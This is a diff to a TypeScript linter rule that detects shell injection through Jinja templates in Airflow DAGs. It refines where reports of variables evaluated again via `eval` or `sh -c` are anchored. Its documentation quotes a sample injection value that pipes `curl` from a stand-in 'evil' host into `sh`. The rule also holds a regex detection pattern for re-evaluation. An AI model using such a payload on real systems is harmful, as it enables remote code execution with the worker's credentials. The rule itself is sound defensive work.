@@ -20,14 +20,27 @@ const score = (k: JinjaClass): number => (k.trust === 'user' ? (k.viaParams ? 4 
  * `env={"CMD": "{{ dag_run.conf['cmd'] }}"}` is the fix for templated input — unless the script evaluates the variable
  * again: `eval "$CMD"`, `sh -c "$CMD"`, `$(…$CMD…)`, or `$CMD` where a command goes.
  */
-function reevaluates(script: string, name: string): boolean {
+function reevaluation(name: string): RegExp {
   const v = String.raw`\$\{?${name}\b`;
   return new RegExp(
     String.raw`\beval\b[^\n;|&]*${v}|\b(?:ba|z|k|da)?sh\s+-c\s+["']?${v}|\$\(\s*["']?${v}|(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)["']?${v}["']?(?:\s|$)`,
-  ).test(script);
+    'm',
+  );
 }
 
-/** Template values passed through `env=` that the operator's script evaluates again (see `reevaluates`). */
+/** Where a script literal of this file evaluates the variable again (the line to fix), if it is written here. */
+function reevaluatedAt(scripts: ShellScript[], name: string, ctx: RuleContext): { startIndex: number; endIndex: number } | undefined {
+  const re = reevaluation(name);
+  for (const s of scripts) {
+    for (const lit of commandParts(s.node).literals) {
+      const m = re.exec(ctx.file.text.slice(lit.node.startIndex, lit.node.endIndex));
+      if (m) return { startIndex: lit.node.startIndex + m.index, endIndex: lit.node.startIndex + m.index + m[0].length };
+    }
+  }
+  return undefined;
+}
+
+/** Template values passed through `env=` that the operator's script evaluates again (see `reevaluation`). */
 function envReevaluated(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext, restricted: Set<string>): void {
   if (anchor.type !== 'call') return;
   // BashOperator `env`, KubernetesPodOperator `env_vars` (dict form), DockerOperator `environment`
@@ -41,7 +54,7 @@ function envReevaluated(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleCon
     const name = stringValue(pair.childForFieldName('key'));
     const value = pair.childForFieldName('value');
     const v = value ? stringValue(value) : null;
-    if (!name || !value || v === null || !/^[A-Za-z_]\w*$/.test(name) || !reevaluates(text, name)) continue;
+    if (!name || !value || v === null || !/^[A-Za-z_]\w*$/.test(name) || !reevaluation(name).test(text)) continue;
     for (const e of jinjaExpressions(v)) {
       const k = classifyJinja(e.expr, restricted);
       const sc = score(k);
@@ -51,6 +64,8 @@ function envReevaluated(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleCon
         ctx.report(value, { label: `\`env\` variable ${name}, which the script evaluates again,`, expr, why: k.why }, {
           severity: sc === 4 ? 'medium' : (SEVERITY[k.trust] ?? 'high'),
           key: `env ${name} ${e.expr}`,
+          // at the `eval` (the line to fix) when the script is written in this file
+          at: reevaluatedAt(scripts, name, ctx),
         }),
       );
       break;
@@ -104,7 +119,7 @@ export default defineRule({
     docs: {
       what:
         'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint) — a string `command` without a shell is split at spaces into the container\'s arguments, where `dag_run.conf` values can still add options: *medium* — and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell (or the inline code of `python -c`, `perl -e`, `node -e`); and `.sh` files shipped with the DAGs, the templates of `bash_command="x.sh "` (there `dag_run.conf` only).\n\n' +
-        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *info*: shown, below the default `--fail-on` (editable in the UI, but Airflow\'s security model trusts whoever may edit Variables and Connections; a templated Variable in a command is the recommended pattern, not a finding to fix). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported on the `env` value (also KubernetesPodOperator `env_vars` and DockerOperator `environment` dicts).',
+        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *info*: shown, below the default `--fail-on` (editable in the UI, but Airflow\'s security model trusts whoever may edit Variables and Connections; a templated Variable in a command is the recommended pattern, not a finding to fix). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported at the line of the script that evaluates it again (on the `env` value when the script is not written in the file; also KubernetesPodOperator `env_vars` and DockerOperator `environment` dicts).',
       why:
         'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
       example:
